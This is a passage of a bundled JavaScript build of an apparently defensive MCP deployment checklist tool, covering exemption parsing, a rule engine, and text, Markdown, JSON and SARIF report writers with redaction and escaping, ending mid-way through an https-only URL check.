export const id = 81;
export const ids = [81];
export const modules = {

/***/ 42081:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  run: () => (/* binding */ run)
});

// UNUSED EXPORTS: getInputs

// EXTERNAL MODULE: external "node:fs"
var external_node_fs_ = __webpack_require__(73024);
// EXTERNAL MODULE: external "node:path"
var external_node_path_ = __webpack_require__(76760);
// EXTERNAL MODULE: ./node_modules/yaml/dist/index.js
var dist = __webpack_require__(38815);
// EXTERNAL MODULE: ./src/util/errors.ts
var util_errors = __webpack_require__(70017);
;// CONCATENATED MODULE: ./src/checklist/exemptions.ts
/**
 * Exemptions: a failing check is accepted only with a reason a reader can check. They come from
 * next to the thing checked (a Kubernetes annotation, a comment in a Dockerfile or workflow, a
 * compose extension field), aligned foreign annotations that carry a reason (kube-linter's,
 * checkov's), or a central exemptions file with an expiry. One without a reason is refused and
 * reported; an expired one fails like the rule and says so.
 *
 * Comments: `# mcp-orchestrator ignore=RULE[,RULE] reason="..."` exempts the finding on its own line
 * (a trailing comment), or on the first line after a run of comment lines it belongs to; a comment
 * in the file's opening comment block (before any instruction or key) exempts the whole file.
 */



/** `*` any run of characters (subjects hold `/`), `?` one character; the rest literal. */
function subjectGlob(glob) {
    return new RegExp(`^${glob.replace(/[.+^${}()|[\]\\]/g, '\\$&').replace(/\*/g, '.*').replace(/\?/g, '.')}$`);
}
const DATE = /^\d{4}-\d{2}-\d{2}$/;
/** Parses a central exemptions file: a list (or `exemptions:` list) of `{id, target, reason, expires}`. */
function parseExemptionsFile(text, file) {
    let doc;
    try {
        doc = (0,dist/* parse */.qg)(text);
    }
    catch (error) {
        throw new util_errors/* InputError */.dz(`exemptions ${file}: not valid YAML or JSON (${error.message.split('\n')[0]})`);
    }
    const list = Array.isArray(doc) ? doc : doc?.exemptions;
    if (!Array.isArray(list))
        throw new util_errors/* InputError */.dz(`exemptions ${file}: expected a list of entries under "exemptions"`);
    const entries = [];
    const refused = [];
    list.forEach((raw, i) => {
        const e = raw;
        const where = { file, pointer: `/exemptions/${i}` };
        const at = `exemptions ${file}: entry ${i + 1}`;
        if (!e || typeof e !== 'object')
            throw new util_errors/* InputError */.dz(`${at}: expected an object with id, target, reason and expires`);
        if (typeof e.id !== 'string' || !/^[A-Z]{2,4}\d{3}$|^[A-Z]{2,4}\*$/.test(e.id))
            throw new util_errors/* InputError */.dz(`${at}: "id" must be a rule id such as HRD001 (or a group such as HRD*)`);
        const target = e.target === undefined ? '*' : e.target;
        if (typeof target !== 'string' || target === '')
            throw new util_errors/* InputError */.dz(`${at}: "target" must be a subject glob such as Deployment/api`);
        const expires = e.expires instanceof Date ? e.expires.toISOString().slice(0, 10) : e.expires;
        if (expires !== undefined && (typeof expires !== 'string' || !DATE.test(expires)))
            throw new util_errors/* InputError */.dz(`${at}: "expires" must be a date YYYY-MM-DD`);
        if (typeof e.reason !== 'string' || e.reason.trim() === '') {
            refused.push({ rule: e.id, origin: 'file', where, why: 'no reason given (add reason: "...")', subject: target });
            return;
        }
        entries.push({ id: e.id, target, reason: e.reason.trim(), expires: expires, pattern: subjectGlob(target), idPattern: subjectGlob(e.id), where });
    });
    return { entries, refused };
}
function loadExemptionsFile(path, display = path) {
    let text;
    try {
        text = (0,external_node_fs_.readFileSync)(path, 'utf8');
    }
    catch (error) {
        throw new util_errors/* InputError */.dz(`--exemptions ${display}: cannot read it (${error.code ?? error.message})`);
    }
    return parseExemptionsFile(text, display);
}
const ANNOTATION_PREFIX = 'mcp-orchestrator.io/ignore-';
/** From `metadata.annotations`: ours first, then the aligned kube-linter and checkov ones. */
function fromAnnotations(rule, annotations, where, aligned) {
    if (!annotations)
        return undefined;
    const own = annotations[`${ANNOTATION_PREFIX}${rule.id}`];
    if (own !== undefined) {
        const reason = String(own).trim();
        return reason ? { exemption: { rule: rule.id, reason, origin: 'annotation', where } } : { refused: { rule: rule.id, origin: 'annotation', where, why: `annotation ${ANNOTATION_PREFIX}${rule.id} has no reason (its value is the reason)` } };
    }
    for (const check of aligned['kube-linter'] ?? []) {
        const value = annotations[`ignore-check.kube-linter.io/${check}`];
        if (value === undefined)
            continue;
        const reason = String(value).trim();
        return reason ? { exemption: { rule: rule.id, reason, origin: 'kube-linter', where } } : { refused: { rule: rule.id, origin: 'kube-linter', where, why: `annotation ignore-check.kube-linter.io/${check} has no reason` } };
    }
    // checkov: `checkov.io/skip1: CKV_K8S_8=the reason`.
    for (const [key, value] of Object.entries(annotations)) {
        if (!/^checkov\.io\/skip\d+$/.test(key))
            continue;
        const m = /^\s*([A-Z0-9_]+)\s*(?:=(.*))?$/s.exec(String(value));
        if (!m || !(aligned.checkov ?? []).includes(m[1]))
            continue;
        const reason = (m[2] ?? '').trim();
        return reason ? { exemption: { rule: rule.id, reason, origin: 'checkov', where } } : { refused: { rule: rule.id, origin: 'checkov', where, why: `annotation ${key} skips ${m[1]} without a reason (write ${m[1]}=reason)` } };
    }
    return undefined;
}
/** From `x-mcp-orchestrator: { ignore: { RULE: reason } }` on the service, then at the top of the compose file. */
function fromComposeExtension(rule, source, where) {
    for (const holder of [source.service, source.top]) {
        const ext = holder?.['x-mcp-orchestrator'];
        const ignore = ext?.ignore;
        if (!ignore || typeof ignore !== 'object' || !(rule.id in ignore))
            continue;
        const value = ignore[rule.id];
        const reason = typeof value === 'string' ? value.trim() : '';
        return reason ? { exemption: { rule: rule.id, reason, origin: 'compose', where } } : { refused: { rule: rule.id, origin: 'compose', where, why: `x-mcp-orchestrator.ignore.${rule.id} has no reason (its value is the reason)` } };
    }
    return undefined;
}
const OWN_DIRECTIVE = /#\s*mcp-orchestrator\s+ignore=([A-Z0-9*,]+)(?:\s+reason=(?:"((?:[^"\\]|\\.)*)"|'([^']*)'))?/;
const CHECKOV_DIRECTIVE = /#\s*checkov:skip=([A-Z0-9_]+)(?::(.*))?$/;
/** What one file's comments say, parsed once per file. */
class CommentDirectives {
    lines;
    directives = new Map();
    /** The last line of the file's opening comment block (0 when the file opens with content). */
    headerEnd;
    constructor(text) {
        this.lines = text.split(/\r?\n/);
        let header = 0;
        let inHeader = true;
        this.lines.forEach((raw, i) => {
            const line = raw.trim();
            if (inHeader && line !== '' && !line.startsWith('#'))
                inHeader = false;
            if (inHeader)
                header = i + 1;
            const own = OWN_DIRECTIVE.exec(raw);
            const checkov = CHECKOV_DIRECTIVE.exec(raw);
            const found = [];
            if (own)
                found.push({ line: i + 1, rules: own[1].split(',').filter(Boolean), reason: (own[2] ?? own[3] ?? '').replace(/\\(.)/g, '$1').trim() || undefined, origin: 'comment' });
            if (checkov)
                found.push({ line: i + 1, rules: [checkov[1]], reason: checkov[2]?.trim() || undefined, origin: 'checkov' });
            if (found.length)
                this.directives.set(i + 1, found);
        });
        this.headerEnd = header;
    }
    isComment(line) {
        return (this.lines[line - 1] ?? '').trim().startsWith('#');
    }
    /** The directives that apply to `line`: on it, in the comment lines directly above it, or in the file's header. */
    applying(line) {
        const out = [];
        if (line !== undefined) {
            out.push(...(this.directives.get(line) ?? []));
            for (let l = line - 1; l >= 1 && this.isComment(l); l--)
                out.push(...(this.directives.get(l) ?? []));
        }
        for (let l = 1; l <= this.headerEnd; l++)
            if (!out.some((d) => d.line === l))
                out.push(...(this.directives.get(l) ?? []));
        return out;
    }
}
function fromComments(rule, directives, location, aligned) {
    if (!directives || !location)
        return undefined;
    for (const d of directives.applying(location.line)) {
        const own = d.origin === 'comment' && d.rules.some((r) => subjectGlob(r).test(rule.id));
        const foreign = d.origin === 'checkov' && d.rules.some((r) => (aligned.checkov ?? []).includes(r));
        if (!own && !foreign)
            continue;
        const where = { file: location.file, line: d.line };
        if (!d.reason) {
            return { refused: { rule: rule.id, origin: d.origin, where, why: d.origin === 'comment' ? 'the ignore comment has no reason="..."' : 'the checkov:skip comment has no reason (write ID:reason)' } };
        }
        return { exemption: { rule: rule.id, reason: d.reason, origin: d.origin, where } };
    }
    return undefined;
}
/** Reads what exempts one failing check next to its subject (not the central file). */
function findLocalExemption(rule, check, comments) {
    const where = check.location ?? { file: '(unknown)' };
    const source = check.exemption ?? (check.location ? { kind: 'comments' } : undefined);
    if (!source)
        return undefined;
    switch (source.kind) {
        case 'annotations':
            return fromAnnotations(rule, source.annotations, where, check.aligned ?? rule.aligned);
        case 'compose-extension':
            return fromComposeExtension(rule, source, where);
        case 'comments':
            return check.location ? fromComments(rule, comments(check.location.file), check.location, check.aligned ?? rule.aligned) : undefined;
    }
}
/** The central file's entry for a check: its rule id and subject (or its object, or file) match. */
function findFileExemption(entries, rule, check) {
    const subjects = [check.subject, check.object, check.location?.file].filter((s) => s !== undefined);
    return entries.find((e) => e.idPattern.test(rule.id) && subjects.some((s) => e.pattern.test(s)));
}
/** Whether an entry has expired on `today` (YYYY-MM-DD): it holds through its `expires` day. */
function isExpired(expires, today) {
    return expires !== undefined && expires < today;
}

;// CONCATENATED MODULE: ./src/checklist/engine.ts
/**
 * The checklist engine: runs every rule over the parsed inputs and decides verdicts. A rule whose
 * inputs were not given is `not-checked` (never passed); one that found nothing of its concern is
 * `not-applicable`; a failing check is `exempted` only by an exemption with a reason (and, from the
 * central file, not expired). Pure: no I/O, no environment; `today` comes from the caller.
 */

const SEVERITY_RANK = { error: 0, warning: 1, note: 2 };
/** Whether a failure of `severity` fails a run with `failOn`. */
function engine_failsAt(severity, failOn) {
    return failOn !== 'none' && SEVERITY_RANK[severity] <= SEVERITY_RANK[failOn];
}
const INPUT_FIELD = {
    spec: 'spec',
    dockerfile: 'dockerfile',
    dockerignore: 'dockerignore',
    image: 'image',
    compose: 'compose',
    manifests: 'manifests',
    cloud: 'cloud',
    workflows: 'workflows',
    'scan-report': 'scanReport',
    'health-report': 'healthReport',
};
/** The inputs a rule lacks, as a sentence; undefined when it can run. */
function missingInputs(rule, inputs) {
    const given = (kind) => inputs[INPUT_FIELD[kind]] !== undefined;
    const missing = rule.needs.filter((k) => !given(k));
    if (missing.length)
        return `needs ${missing.join(', ')}`;
    if (rule.needsAnyOf?.length && !rule.needsAnyOf.some(given))
        return `needs one of ${rule.needsAnyOf.join(', ')}`;
    return undefined;
}
class ExemptionLedger {
    inputs;
    options;
    today;
    used = [];
    refused = [];
    usedKeys = new Set();
    directives = new Map();
    constructor(inputs, options, today) {
        this.inputs = inputs;
        this.options = options;
        this.today = today;
        this.refused.push(...(options.exemptionsFile?.refused ?? []));
    }
    comments = (file) => {
        if (!this.directives.has(file)) {
            const text = this.inputs.sources?.[file] ?? (this.inputs.dockerfile?.file === file ? this.inputs.dockerfile.text : undefined);
            this.directives.set(file, text === undefined ? undefined : new CommentDirectives(text));
        }
        return this.directives.get(file);
    };
    /** Decides one failing check. */
    decide(rule, check) {
        const { exemption: _source, ...plain } = check;
        const local = findLocalExemption(rule, check, this.comments);
        const entry = this.options.exemptionsFile ? findFileExemption(this.options.exemptionsFile.entries, rule, check) : undefined;
        const fromFile = entry && { rule: rule.id, reason: entry.reason, origin: 'file', where: entry.where, expires: entry.expires, target: entry.target };
        if (local && 'refused' in local)
            this.refused.push({ ...local.refused, subject: check.subject });
        const found = local && 'exemption' in local ? local.exemption : fromFile;
        if (!found)
            return { ...plain, status: 'failed' };
        if (this.options.disallowExemptions) {
            this.refused.push({ rule: rule.id, origin: found.origin, where: found.where, why: 'exemptions are disallowed (--disallow-exemptions)', subject: check.subject });
            return { ...plain, status: 'failed' };
        }
        if (isExpired(found.expires, this.today)) {
            this.refused.push({ rule: rule.id, origin: found.origin, where: found.where, why: `expired on ${found.expires}`, subject: check.subject });
            return { ...plain, message: `${plain.message} (exemption expired on ${found.expires})`, status: 'failed', exemption: found, expired: true };
        }
        // One exemption covers several checks (a file-wide comment, an object's annotation): listed once.
        const key = JSON.stringify([found.rule, found.origin, found.where, found.reason]);
        if (!this.usedKeys.has(key)) {
            this.usedKeys.add(key);
            this.used.push({ ...found });
        }
        return { ...plain, status: 'exempted', exemption: found };
    }
}
function verdictOf(checks) {
    if (!checks.length)
        return 'not-applicable';
    if (checks.some((c) => c.status === 'failed'))
        return 'failed';
    if (checks.some((c) => c.status === 'exempted'))
        return 'exempted';
    return 'passed';
}
/** Runs `rules` over `inputs`. Rule ids must be unique (the registry's test keeps them so). */
function runChecklist(rules, inputs, options = {}) {
    const failOn = options.failOn ?? 'error';
    const ledger = new ExemptionLedger(inputs, options, options.today ?? new Date().toISOString().slice(0, 10));
    const results = rules.map((rule) => {
        const notChecked = missingInputs(rule, inputs) ?? rule.unavailable?.(inputs);
        if (notChecked)
            return { rule, verdict: 'not-checked', checks: [], notChecked };
        const checks = rule.check(inputs).map((check) => {
            if (check.passed) {
                const { exemption: _source, ...plain } = check;
                return { ...plain, status: 'passed' };
            }
            return ledger.decide(rule, check);
        });
        return { rule, verdict: verdictOf(checks), checks };
    });
    const counts = { passed: 0, failed: 0, exempted: 0, 'not-checked': 0, 'not-applicable': 0 };
    for (const r of results)
        counts[r.verdict]++;
    const failed = results.some((r) => r.verdict === 'failed' && engine_failsAt(r.rule.severity, failOn));
    return { results, exemptions: { used: ledger.used, refused: ledger.refused }, failOn, failed, counts };
}

// EXTERNAL MODULE: external "node:crypto"
var external_node_crypto_ = __webpack_require__(77598);
// EXTERNAL MODULE: ./src/scan/redact-text.ts
var redact_text = __webpack_require__(77534);
;// CONCATENATED MODULE: ./src/util/html.ts
/**
 * Escaping for job summaries (GitHub-flavoured Markdown with inline HTML): text from an image, a
 * server or a user goes into a summary only through these, so it can neither open a tag nor break
 * out of a code span or a table cell.
 */
const ENTITIES = { '&': '&amp;', '<': '&lt;', '>': '&gt;', '"': '&quot;', "'": '&#39;', '|': '&#124;', '`': '&#96;', '\\': '&#92;' };
/** Text for HTML or a Markdown table cell: tags, quotes, pipes and backticks become entities; newlines spaces. */
function escapeHtml(text) {
    return text.replace(/[&<>"'|`\\]/g, (c) => ENTITIES[c]).replace(/\r?\n|\r/g, ' ');
}
/** Text as inline code, escaped (a Markdown code span could be closed by a backtick in the text). */
function code(text) {
    return `<code>${escapeHtml(text)}</code>`;
}

;// CONCATENATED MODULE: ./src/util/sarif.ts
/** The SARIF 2.1.0 envelope every report of this project writes (scan, checklist): one log, one run, one tool. */
const INFORMATION_URI = 'https://github.com/mcp-server-orchestrator/mcp-server-orchestrator';
function sarif_sarifLog(run) {
    return {
        $schema: 'https://json.schemastore.org/sarif-2.1.0.json',
        version: '2.1.0',
        runs: [
            {
                tool: { driver: { name: run.tool, informationUri: INFORMATION_URI, version: run.version, rules: run.rules } },
                automationDetails: { id: run.automationId },
                results: run.results,
            },
        ],
    };
}

;// CONCATENATED MODULE: ./src/checklist/report.ts
/**
 * The checklist's outputs: the seed's items as a Markdown checklist a person would keep, plain
 * text, JSON, and SARIF 2.1.0 for code scanning. Every message went through the scan's redaction
 * (values from an image or an env can be secrets) and is escaped for the language it goes into.
 */





const ITEMS = [
    { item: 'image-built', title: 'Image built' },
    { item: 'environment-secure', title: 'Environment injected securely (no secret literals)' },
    { item: 'health-checks', title: 'Health checks configured and passing' },
    { item: 'logging', title: 'Logging and monitoring enabled' },
    { item: 'resource-limits', title: 'Resource limits set' },
    { item: 'tls', title: 'TLS for remote access' },
    { item: 'secret-store', title: 'Secrets in a secure vault' },
    { item: 'scaling', title: 'Scaling policy defined' },
    { item: 'hardening', title: 'Hardened (non-root, read-only, no privileges)' },
    { item: 'workflows', title: 'Workflows secure' },
];
/** Most results listed per rule in text and Markdown (JSON and SARIF carry all). */
const SHOWN = 20;
function formatLocation(location) {
    if (!location)
        return '';
    if (location.pointer)
        return `${location.file}#${location.pointer}`;
    return location.line ? `${location.file}:${location.line}` : location.file;
}
// Each writer redacts the same messages: the scan's rules run once per distinct text.
const redacted = new Map();
function clean(text) {
    let out = redacted.get(text);
    if (out === undefined) {
        if (redacted.size > 10_000)
            redacted.clear();
        out = (0,redact_text/* redactText */.iB)(text);
        redacted.set(text, out);
    }
    return out;
}
/** An item is ticked when its rules were checked and none failed (exempted counts, with its reason listed). */
function itemState(results) {
    if (results.some((r) => r.verdict === 'failed'))
        return 'open';
    if (results.some((r) => r.verdict === 'not-checked'))
        return 'not-checked';
    if (results.every((r) => r.verdict === 'not-applicable'))
        return 'not-applicable';
    return 'done';
}
function byItem(result) {
    return ITEMS.map(({ item, title }) => {
        const results = result.results.filter((r) => r.rule.item === item);
        return { item, title, results, state: itemState(results) };
    }).filter((i) => i.results.length > 0);
}
function failing(r) {
    return r.checks.filter((c) => c.status !== 'passed');
}
const VERDICT_TEXT = { passed: 'passed', failed: 'FAILED', exempted: 'exempted', 'not-checked': 'not checked', 'not-applicable': 'n/a' };
function headline(result) {
    const c = result.counts;
    return `Checklist ${result.failed ? 'failed' : 'passed'} (fail on ${result.failOn}): ${c.passed} passed, ${c.failed} failed, ${c.exempted} exempted, ${c['not-checked']} not checked, ${c['not-applicable']} not applicable`;
}
function renderText(result) {
    const lines = [headline(result), ''];
    for (const group of byItem(result)) {
        lines.push(`[${group.state === 'done' || group.state === 'not-applicable' ? 'x' : ' '}] ${group.title}${group.state === 'not-checked' ? ' (not fully checked)' : ''}`);
        for (const r of group.results) {
            lines.push(`    ${r.rule.id} ${VERDICT_TEXT[r.verdict].padEnd(11)} ${r.rule.severity.padEnd(7)} ${r.rule.title}${r.notChecked ? ` (${r.notChecked})` : ''}`);
            const shown = failing(r);
            for (const c of shown.slice(0, SHOWN))
                lines.push(`        ${formatLocation(c.location) || c.subject || ''}: ${clean(c.message)}${c.exemption && c.status === 'exempted' ? ` [exempted: ${clean(c.exemption.reason)}]` : ''}`);
            if (shown.length > SHOWN)
                lines.push(`        … and ${shown.length - SHOWN} more (use --format json)`);
            if (r.verdict === 'failed')
                lines.push(`        fix: ${r.rule.fix}`);
        }
    }
    lines.push(...exemptionLines(result, (s) => s));
    return `${lines.join('\n')}\n`;
}
function exemptionLines(result, esc, bullet = '') {
    const lines = [];
    if (result.exemptions.used.length) {
        lines.push('', `${bullet ? '#### ' : ''}Exemptions used (${result.exemptions.used.length})`, '');
        for (const e of result.exemptions.used)
            lines.push(`${bullet || '  '}${esc(e.rule)} by ${e.origin} at ${esc(formatLocation(e.where))}: ${esc(clean(e.reason))}${e.expires ? ` (until ${e.expires})` : ''}`);
    }
    if (result.exemptions.refused.length) {
        lines.push('', `${bullet ? '#### ' : ''}Exemptions refused (${result.exemptions.refused.length})`, '');
        for (const e of result.exemptions.refused)
            lines.push(`${bullet || '  '}${esc(e.rule)} by ${e.origin} at ${esc(formatLocation(e.where))}${e.subject ? ` for ${esc(clean(e.subject))}` : ''}: ${esc(e.why)}`);
    }
    return lines;
}
const MD_VERDICT = { passed: '✅ passed', failed: '❌ failed', exempted: '⚪ exempted', 'not-checked': '⏸️ not checked', 'not-applicable': '➖ not applicable' };
/** The job summary: each item as `- [x]` / `- [ ]`, its rules beneath with verdict, evidence and fix. */
function renderMarkdown(result) {
    const esc = (s) => escapeHtml(clean(s));
    const lines = [`### ${result.failed ? '❌' : '✅'} ${escapeHtml(headline(result))}`, ''];
    for (const group of byItem(result)) {
        const ticked = group.state === 'done' || group.state === 'not-applicable';
        const note = group.state === 'not-checked' ? ' — not fully checked' : group.state === 'not-applicable' ? ' — nothing to check' : '';
        lines.push(`- [${ticked ? 'x' : ' '}] **${group.title}**${note}`);
        for (const r of group.results) {
            lines.push(`  - \`${r.rule.id}\` ${MD_VERDICT[r.verdict]} (${r.rule.severity}): ${escapeHtml(r.rule.title)}${r.notChecked ? ` — ${esc(r.notChecked)}` : ''}`);
            const shown = failing(r);
            for (const c of shown.slice(0, SHOWN)) {
                const where = formatLocation(c.location);
                const exempt = c.status === 'exempted' && c.exemption ? ` — exempted (${c.exemption.origin}): ${esc(c.exemption.reason)}` : '';
                lines.push(`    - ${where ? `<code>${esc(where)}</code>: ` : ''}${esc(c.message)}${exempt}`);
            }
            if (shown.length > SHOWN)
                lines.push(`    - … and ${shown.length - SHOWN} more (see the JSON report)`);
            if (r.verdict === 'failed')
                lines.push(`    - fix: ${escapeHtml(r.rule.fix)}`);
        }
    }
    lines.push(...exemptionLines(result, esc, '- '));
    return `${lines.join('\n')}\n`;
}
function alignedText(rule) {
    const parts = Object.entries(rule.aligned)
        .filter(([, ids]) => ids && ids.length)
        .map(([tool, ids]) => `${tool}: ${ids.join(', ')}`);
    return parts.length ? `Same as ${parts.join('; ')}.` : '';
}
function toJson(result) {
    return {
        passed: !result.failed,
        failOn: result.failOn,
        counts: result.counts,
        items: byItem(result).map((g) => ({ item: g.item, title: g.title, state: g.state, rules: g.results.map((r) => r.rule.id) })),
        rules: result.results.map((r) => ({
            id: r.rule.id,
            group: r.rule.group,
            item: r.rule.item,
            severity: r.rule.severity,
            title: r.rule.title,
            verdict: r.verdict,
            failsGate: r.verdict === 'failed' && engine_failsAt(r.rule.severity, result.failOn),
            ...(r.notChecked ? { notChecked: r.notChecked } : {}),
            fix: r.rule.fix,
            aligned: r.rule.aligned,
            checks: r.checks.map((c) => ({ status: c.status, message: clean(c.message), subject: c.subject && clean(c.subject), location: c.location, ...(c.exemption ? { exemption: { ...c.exemption, reason: clean(c.exemption.reason) } } : {}), ...(c.expired ? { expired: true } : {}) })),
        })),
        exemptions: {
            used: result.exemptions.used.map((e) => ({ ...e, reason: clean(e.reason) })),
            refused: result.exemptions.refused.map((e) => ({ ...e, subject: e.subject && clean(e.subject) })),
        },
    };
}
const SECURITY_SEVERITY = { error: '8.0', warning: '5.0', note: '2.0' };
function sarifLocation(location) {
    if (!location)
        return [];
    // Report pointers are not source lines: the report file, line 1, with the pointer in the message.
    const region = location.line ? { startLine: location.line, ...(location.column ? { startColumn: location.column } : {}) } : { startLine: 1 };
    return [{ physicalLocation: { artifactLocation: { uri: location.file.replace(/\\/g, '/').replace(/^\.\//, '') }, region } }];
}
function fingerprint(rule, c) {
    return (0,external_node_crypto_.createHash)('sha256')
        .update(`${rule}\n${c.subject ?? ''}\n${c.location?.file ?? ''}\n${c.location?.pointer ?? ''}\n${clean(c.message)}`)
        .digest('hex')
        .slice(0, 32);
}
function report_toSarif(result, options) {
    const rules = result.results.map((r) => r.rule);
    const index = new Map(rules.map((r, i) => [r.id, i]));
    const results = result.results.flatMap((r) => failing(r).map((c) => ({
        ruleId: r.rule.id,
        ruleIndex: index.get(r.rule.id),
        level: r.rule.severity,
        message: { text: `${clean(c.message)}${c.location?.pointer ? ` (${c.location.pointer})` : ''}` },
        locations: sarifLocation(c.location),
        partialFingerprints: { 'checklistFingerprint/v1': fingerprint(r.rule.id, c) },
        ...(c.status === 'exempted' && c.exemption ? { suppressions: [{ kind: c.exemption.origin === 'file' ? 'external' : 'inSource', justification: clean(c.exemption.reason) }] } : {}),
        properties: { subject: c.subject && clean(c.subject), verdict: r.verdict },
    })));
    return sarif_sarifLog({
        tool: 'mcp-orchestrator-checklist',
        version: options.version,
        rules: rules.map((rule) => {
            const text = `${rule.help}\n\nFix: ${rule.fix}${alignedText(rule) ? `\n\n${alignedText(rule)}` : ''}`;
            return {
                id: rule.id,
                name: rule.title.replace(/[^A-Za-z0-9]+(.)?/g, (_m, c) => (c ? c.toUpperCase() : '')),
                shortDescription: { text: rule.title },
                fullDescription: { text: rule.help },
                help: { text, markdown: `**${escapeHtml(rule.title)}**\n\n${escapeHtml(rule.help)}\n\n**Fix:** ${escapeHtml(rule.fix)}${alignedText(rule) ? `\n\n${escapeHtml(alignedText(rule))}` : ''}` },
                defaultConfiguration: { level: rule.severity },
                properties: { 'security-severity': SECURITY_SEVERITY[rule.severity], tags: ['security', 'checklist', rule.group], precision: 'high' },
            };
        }),
        automationId: 'mcp-orchestrator-checklist/',
        results,
    });
}
/** Annotations for failed checks on source lines (reports have no lines), the gate's failures first. */
function annotationsOf(result, limit = 50) {
    const level = { error: 'error', warning: 'warning', note: 'notice' };
    return result.results
        .filter((r) => r.verdict === 'failed')
        .sort((a, b) => Number(engine_failsAt(b.rule.severity, result.failOn)) - Number(engine_failsAt(a.rule.severity, result.failOn)))
        .flatMap((r) => r.checks
        .filter((c) => c.status === 'failed')
        .map((c) => ({
        level: level[r.rule.severity],
        title: `${r.rule.id}: ${r.rule.title}`,
        message: `${clean(c.message)}. Fix: ${r.rule.fix}`,
        ...(c.location && c.location.line && !c.location.file.startsWith('render/') ? { file: c.location.file, startLine: c.location.line } : {}),
    })))
        .slice(0, limit);
}

// EXTERNAL MODULE: external "node:fs/promises"
var promises_ = __webpack_require__(51455);
// EXTERNAL MODULE: ./src/scan/config-scanner.ts
var config_scanner = __webpack_require__(68504);
// EXTERNAL MODULE: ./src/scan/credential-files.ts
var credential_files = __webpack_require__(34962);
// EXTERNAL MODULE: ./src/scan/rules.ts
var rules = __webpack_require__(39830);
;// CONCATENATED MODULE: ./src/scan/sarif.ts
/** SARIF 2.1.0 for GitHub code scanning: one run, stable rule ids, security-severity, fingerprints. */




const sarif_SECURITY_SEVERITY = { critical: '9.5', high: '8.0', medium: '5.5', low: '3.0' };
const LEVEL = { critical: 'error', high: 'error', medium: 'warning', low: 'note' };
const allRuleMeta = [...rules/* rules */.aO, ...credential_files/* fileRules */._h, ...config_scanner/* configRules */.GF].map((r) => ({ id: r.id, title: r.title, severity: r.severity, help: r.help }));
function describeLocation(f) {
    if (f.where === 'file')
        return `${f.path}${f.line ? `:${f.line}` : ''}`;
    if (f.where === 'cmd')
        return 'Entrypoint/Cmd';
    return `${f.where === 'history' ? 'build arg' : f.where} ${f.name ?? '(in a build step)'}`;
}
function sarif_toSarif(report, options) {
    const index = new Map(allRuleMeta.map((r, i) => [r.id, i]));
    return sarifLog({
        tool: 'mcp-orchestrator-scan',
        version: options.version,
        rules: allRuleMeta.map((r) => ({
            id: r.id,
            name: r.id.replace(/(^|-)(\w)/g, (_m, _d, c) => c.toUpperCase()),
            shortDescription: { text: r.title },
            fullDescription: { text: r.help },
            help: { text: r.help, markdown: `**${r.title}**\n\n${r.help}` },
            defaultConfiguration: { level: LEVEL[r.severity] },
            properties: { 'security-severity': sarif_SECURITY_SEVERITY[r.severity], tags: ['security', 'secret', 'container'] },
        })),
        automationId: `mcp-orchestrator-scan/${report.image.digest}`,
        results: report.findings.map((f) => {
            const line = options.dockerfile?.locator.lineOf(f);
            const uri = line ? options.dockerfile.path : (f.path ?? 'Dockerfile').replace(/^\//, '');
            const where = describeLocation(f);
            const layer = f.layer ? ` in layer ${f.layer.index} (${f.layer.digest.slice(0, 19)})` : '';
            return {
                ruleId: f.rule,
                ruleIndex: index.get(f.rule),
                level: LEVEL[f.severity],
                message: { text: `${allRuleMeta[index.get(f.rule)]?.title ?? f.rule} at ${where}${layer}${f.deleted ? ', deleted by a later layer but still in the image' : ''}: ${f.match}` },
                locations: [{ physicalLocation: { artifactLocation: { uri }, region: { startLine: line ?? (f.where === 'file' ? (f.line ?? 1) : 1) } } }],
                partialFingerprints: { 'secretFingerprint/v1': f.fingerprint },
                properties: { image: report.image.digest, where: f.where, path: f.path, name: f.name, layer: f.layer?.index, deleted: f.deleted ?? false },
            };
        }),
    });
}

// EXTERNAL MODULE: ./src/scan/scan-image.ts + 2 modules
var scan_image = __webpack_require__(23054);
;// CONCATENATED MODULE: ./src/scan/run-scan.ts
/**
 * What the CLI and the action share around scanImage: load the baseline, scan, write the JSON
 * report and SARIF, and decide the verdict. The edges only parse their inputs and print.
 */






const VERSION = '0.1.0';
async function writeOut(path, text) {
    await mkdir(dirname(path), { recursive: true });
    await writeFile(path, text);
}
async function runScan(source, options) {
    const baseline = options.baselineFile ? await (await __webpack_require__.e(/* import() */ 809).then(__webpack_require__.bind(__webpack_require__, 67809))).loadBaseline(options.baselineFile) : undefined;
    const report = await scanImage(source, { workerScript: bundleScript(), ...options, baseline });
    let dockerfile;
    if (options.dockerfile) {
        const text = await readFile(options.dockerfile, 'utf8').catch(() => undefined);
        if (text !== undefined) {
            // The Dockerfile parser loads only when there is a Dockerfile to point at.
            const { DockerfileLocator } = await __webpack_require__.e(/* import() */ 844).then(__webpack_require__.bind(__webpack_require__, 41844));
            dockerfile = { path: relative(options.workspace ?? process.cwd(), resolve(options.dockerfile)), locator: new DockerfileLocator(text) };
        }
    }
    const sarif = toSarif(report, { version: VERSION, dockerfile });
    if (options.reportFile)
        await writeOut(options.reportFile, `${JSON.stringify(report, null, 2)}\n`);
    if (options.sarifFile)
        await writeOut(options.sarifFile, `${JSON.stringify(sarif, null, 2)}\n`);
    const highest = report.findings.reduce((h, f) => (h === 'none' || severityRank(f.severity) < severityRank(h) ? f.severity : h), 'none');
    return { report, sarif, highest, failed: report.findings.some((f) => failsAt(f.severity, options.failOn)) };
}

// EXTERNAL MODULE: ./src/image/reader.ts + 7 modules
var reader = __webpack_require__(5711);
// EXTERNAL MODULE: ./node_modules/ajv/dist/ajv.js
var ajv = __webpack_require__(42463);
;// CONCATENATED MODULE: ./src/spec/auth.ts
/**
 * `auth:` of mcp-deploy.yml, after the schema: the checks a pattern cannot make (https unless the
 * host is loopback, a section for the mode chosen and none for another, a bearer token the target
 * can read), with the file, line and field in each error, and the typed form the stages read.
 */

const DEFAULT_TOKEN_VARIABLE = 'MCP_BRIDGE_TOKEN';
/** Hosts a plain-http issuer or key set may be on: only this machine can see the traffic. */
function isLoopbackHost(hostname) {
    const host = hostname.replace(/^\[|\]$/g, '').toLowerCase();
    return host === 'localhost' || host === '::1' || /^127(?:\.\d{1,3}){3}$/.test(host);
}
/** Refuses what an http(s) URL of `field` must not be: unparsable, or plain http to another host. */
function checkSecureUrl(value, field) {
    if (!URL.canParse(value))
        return `${field}: ${JSON.stringify(value)} is not a URL`;
    const url = new URL(value);
    if (url.protocol === 'http:' && !isLoopbackHost(url.hostname))
